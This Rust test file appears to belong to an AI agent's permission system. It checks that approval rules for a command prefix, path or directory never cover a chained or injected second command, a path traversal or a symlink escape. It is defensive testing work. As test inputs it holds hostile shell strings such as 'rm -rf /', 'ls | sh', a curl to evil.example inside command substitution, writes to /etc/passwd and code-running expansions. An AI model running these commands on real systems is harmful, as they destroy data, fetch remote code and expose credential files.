//! Always-rules: what each fits, what it covers, and that nothing it
//! covers can carry a second command.

use serde_json::json;

use super::*;

fn bash(command: &str) -> Value {
    json!({ "command": command })
}

fn prefix_rule(command: &str) -> AlwaysRule {
    AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string(), None)
        .into_iter()
        .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
        .unwrap_or_else(|| panic!("no prefix rule for {command}"))
}

fn has_prefix_rule(command: &str) -> bool {
    AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string(), None)
        .iter()
        .any(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
}

fn execution_by(agent_type: Option<&str>, command: &str) -> ToolExecution {
    let mut call = tether_tools::ToolCall::new("c", "Bash", bash(command).to_string());
    if let Some(kind) = agent_type {
        call.invocation_context = Some(json!({ "agent_type": kind, "agent_id": "a7f3e1" }));
    }
    let scope = tether_tools::AgentPipelineScope::builder().label("s").build_root();
    ToolExecution::new(&call, Some(scope), Default::default())
}

#[test]
fn a_rule_narrowed_to_a_subagent_type_approves_only_that_subagents_calls() {
    let call = execution_by(Some("Explore"), "git status");
    let place = Place::of(&call);
    let rule = AlwaysRule::choices("Bash", place.scope_id, "s", &bash("git status").to_string(), None)
        .into_iter()
        .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
        .unwrap()
        .narrowed_to("Explore");
    assert!(rule.matches_execution(&call));
    assert!(
        rule.describe().contains(r#"made by subagent "Explore""#),
        "{}",
        rule.describe()
    );
    let main = execution_by(None, "git status");
    let other = execution_by(Some("Plan"), "git status");
    // Another execution is another scope: compare the place alone.
    fn same_scope<'e>(scope_id: Option<u64>, e: &'e ToolExecution) -> Place<'e> {
        Place {
            scope_id,
            ..Place::of(e)
        }
    }
    assert!(
        !rule.applies_at(same_scope(place.scope_id, &main)),
        "the main agent is not covered"
    );
    assert!(
        !rule.applies_at(same_scope(place.scope_id, &other)),
        "another subagent type is not covered"
    );
    assert!(rule.applies_at(same_scope(place.scope_id, &call)));
    let kept = persist::policy_rule(&rule, "kept-1").unwrap();
    assert_eq!(kept["match"]["agent_type"], "Explore", "{kept}");
}

#[test]
fn a_prefix_is_the_program_and_its_subcommand_never_a_flag() {
    let rule = prefix_rule("git push --force origin main");
    assert_eq!(
        rule.fit,
        Fit::CommandPrefix {
            pointer: "/command".into(),
            prefix: vec!["git".into(), "push".into()],
            rest: true,
        }
    );
    assert!(rule.matches("Bash", Some(1), &bash("git push origin")));
    assert!(!rule.matches("Bash", Some(1), &bash("git pull")));
    assert!(!rule.matches("Bash", Some(1), &bash("git pushy")));
    assert!(!rule.matches("Bash", Some(2), &bash("git push")), "another scope");
    assert!(!rule.matches("shell", Some(1), &bash("git push")), "another tool");
    // A flag right after the program: the whole command is the prefix.
    assert_eq!(
        prefix_rule("ls -la").fit,
        Fit::CommandPrefix {
            pointer: "/command".into(),
            prefix: vec!["ls".into(), "-la".into()],
            rest: false,
        }
    );
}

#[test]
fn compound_commands_get_no_prefix_rule_and_are_never_covered() {
    for command in [
        "ls; rm -rf /",
        "ls && rm -rf /",
        "ls || rm -rf /",
        "ls | sh",
        "echo $(curl https://evil.example/x)",
        "echo `curl https://evil.example/x`",
        "ls > /etc/passwd",
        "cat < /etc/shadow",
        "ls & rm -rf /",
        "ls\nrm -rf /",
    ] {
        assert!(!has_prefix_rule(command), "{command:?} got a prefix rule");
    }
    let ls = prefix_rule("ls");
    for command in [
        "ls; rm -rf /",
        "ls $(curl x)",
        "ls `id`",
        "ls >out",
        "ls | sh",
        "ls && id",
    ] {
        assert!(!ls.matches("Bash", Some(1), &bash(command)), "{command:?} was covered");
    }
    assert!(ls.matches("Bash", Some(1), &bash("ls src")));
}

#[test]
fn quoted_arguments_are_words_not_split_on_spaces() {
    let rule = prefix_rule("git commit -m 'fix the thing'");
    assert_eq!(
        rule.fit,
        Fit::CommandPrefix {
            pointer: "/command".into(),
            prefix: vec!["git".into(), "commit".into()],
            rest: true,
        }
    );
    assert!(rule.matches("Bash", Some(1), &bash(r#"git commit -m "another message""#)));
    // `"git commit"` quoted is one word, a different program.
    assert!(!rule.matches("Bash", Some(1), &bash(r#""git commit" -m x"#)));
    // Unbalanced quotes do not parse: asked.
    assert!(!rule.matches("Bash", Some(1), &bash("git commit -m 'oops")));
    assert!(
        rule.describe().contains("starts with `git commit`"),
        "{}",
        rule.describe()
    );
}

#[test]
fn wrappers_and_assignments_get_no_prefix_and_argv_commands_are_unwrapped() {
    for command in ["sudo rm -rf /", "env X=1 make", "FOO=bar make", "xargs rm"] {
        assert!(!has_prefix_rule(command), "{command:?}");
    }
    let argv = json!({"command": ["bash", "-lc", "cargo test --workspace"]});
    let choices = AlwaysRule::choices("exec_command", None, "g", &argv.to_string(), None);
    let prefix = choices
        .iter()
        .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
        .unwrap();
    assert!(prefix.matches("exec_command", None, &json!({"command": ["bash", "-lc", "cargo test"]})));
    assert!(!prefix.matches(
        "exec_command",
        None,
        &json!({"command": ["bash", "-lc", "cargo test; id"]})
    ));
    assert!(prefix.matches("exec_command", None, &json!({"command": ["cargo", "test", "-q"]})));
}

#[test]
fn file_tools_offer_the_path_then_its_directory_and_never_climb_out() {
    let args = json!({"file_path": "src/ui/app.rs", "content": "x"});
    let choices = AlwaysRule::choices("Write", None, "g", &args.to_string(), None);
    let fits: Vec<&Fit> = choices.iter().map(|r| &r.fit).collect();
    assert!(matches!(fits[0], Fit::Arguments(_)));
    assert_eq!(
        fits[1],
        &Fit::Path {
            key: "file_path".into(),
            path: "src/ui/app.rs".into()
        }
    );
    assert_eq!(
        fits[2],
        &Fit::Directory {
            key: "file_path".into(),
            dir: "src/ui".into()
        }
    );
    assert_eq!(fits.last(), Some(&&Fit::WholeTool));
    let dir = &choices[2];
    assert!(dir.matches("Write", None, &json!({"file_path": "src/ui/view/x.rs"})));
    assert!(!dir.matches("Write", None, &json!({"file_path": "src/ui/../../etc/passwd"})));
    assert!(!dir.matches("Write", None, &json!({"file_path": "src/uix/a.rs"})));
    assert!(!choices[1].matches("Write", None, &json!({"file_path": "src/ui/other.rs"})));
    assert_eq!(
        AlwaysRule::choices("Write", None, "g", r#"{"path": "../x/y"}"#, None).len(),
        3,
        "no directory rule for a path that climbs"
    );
}

#[test]
fn a_tool_marked_shell_like_gets_prefix_rules_at_its_pointer_with_the_same_safety() {
    let call = |line: &str| json!({"job": {"line": line}, "cwd": "/tmp"});
    let choices = AlwaysRule::choices(
        "run",
        Some(1),
        "s",
        &call("cargo test -q").to_string(),
        Some("/job/line"),
    );
    let prefix = choices
        .iter()
        .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
        .expect("a prefix rule");
    assert_eq!(
        prefix.fit,
        Fit::CommandPrefix {
            pointer: "/job/line".into(),
            prefix: vec!["cargo".into(), "test".into()],
            rest: true,
        }
    );
    assert!(prefix.describe().contains("when job/line starts with `cargo test`"));
    assert!(prefix.matches("run", Some(1), &call("cargo test --workspace")));
    assert!(!prefix.matches("run", Some(1), &call("cargo publish")));
    for compound in [
        "cargo test; rm -rf /",
        "cargo test && id",
        "cargo test | sh",
        "cargo test $(id)",
        "cargo test `id`",
        "cargo test > /etc/passwd",
    ] {
        assert!(
            !prefix.matches("run", Some(1), &call(compound)),
            "{compound:?} was covered"
        );
        let offered = AlwaysRule::choices("run", Some(1), "s", &call(compound).to_string(), Some("/job/line"));
        assert!(
            !offered.iter().any(|r| matches!(r.fit, Fit::CommandPrefix { .. })),
            "{compound:?} was offered a prefix"
        );
    }
    // An argv array at the pointer is read as words too.
    assert!(prefix.matches("run", Some(1), &json!({"job": {"line": ["cargo", "test", "-q"]}})));
    // Unmarked, the same tool gets no prefix rule.
    let unmarked = AlwaysRule::choices("run", Some(1), "s", &call("cargo test").to_string(), None);
    assert!(!unmarked.iter().any(|r| matches!(r.fit, Fit::CommandPrefix { .. })));
}

#[test]
fn a_built_in_shell_tool_with_two_command_arguments_is_read_as_command() {
    let rule = AlwaysRule::choices("shell", None, "g", &json!({"cmd": "ls"}).to_string(), None)
        .into_iter()
        .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
        .unwrap();
    assert!(rule.matches("shell", None, &json!({"cmd": "ls -la"})));
    assert!(!rule.matches("shell", None, &json!({"cmd": "ls", "command": "rm -rf /"})));
}

#[test]
fn other_tools_offer_exact_arguments_then_the_whole_tool() {
    let choices = AlwaysRule::choices("weather", None, "g", r#"{"city": "Oslo"}"#, None);
    assert_eq!(choices.len(), 2);
    assert!(choices[0].matches("weather", None, &json!({"city": "Oslo"})));
    assert!(!choices[0].matches("weather", None, &json!({"city": "Lima"})));
    assert!(choices[1].matches("weather", None, &json!({"city": "Lima"})));
    assert!(choices[1].describe().contains("the whole tool"));
}

#[test]
fn an_expansion_that_runs_code_is_never_covered_by_a_prefix() {
    // Issue 31.1: bash runs the `touch` in each of these.
    let ls = prefix_rule("ls");
    for command in [
        r"ls ${x:=\$\(touch\ /tmp/p\)}${x@P}",
        r"ls ${x:=a[\$\(touch\ /tmp/p\)]} ${PWD:x}",
        "ls $HOME",
        "ls ${PWD}",
        "ls $[1+1]",
        "ls $((1+1))",
        "ls $'\\x41'",
        "ls \"$(id)\"",
        "ls {a,b}",
        "X=1 ls",
        "ls <(id)",
    ] {
        assert!(!ls.matches("Bash", Some(1), &bash(command)), "{command:?} was covered");
        assert!(!has_prefix_rule(command), "{command:?} got a prefix rule");
    }
    // Plain quoting is still plain.
    assert!(ls.matches("Bash", Some(1), &bash("ls 'a b' \"c d\" e\\ f")));
}

#[test]
fn a_command_whose_second_word_is_a_flag_or_a_file_gets_an_exact_rule() {
    let find = prefix_rule("find . -name x");
    assert!(find.matches("Bash", Some(1), &bash("find . -name x")));
    assert!(!find.matches("Bash", Some(1), &bash("find . -name x -delete")));
    let rm = prefix_rule("rm build");
    assert!(!rm.matches("Bash", Some(1), &bash("rm build -rf /")));
    assert!(rm.describe().contains("is exactly `rm build`"), "{}", rm.describe());
}

#[test]
fn a_directory_rule_does_not_follow_a_link_out_of_its_directory() {
    let project = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(project.path().join("src/ui")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), project.path().join("src/ui/out")).unwrap();
    let rule = AlwaysRule::choices("Write", None, "g", r#"{"file_path": "src/ui/a.rs"}"#, None)
        .into_iter()
        .find(|r| matches!(r.fit, Fit::Directory { .. }))
        .unwrap();
    let cwd = Some(project.path());
    assert!(rule.fits("Write", &json!({"file_path": "src/ui/b.rs"}), cwd));
    assert!(!rule.fits("Write", &json!({"file_path": "src/ui/out/secret"}), cwd));
}
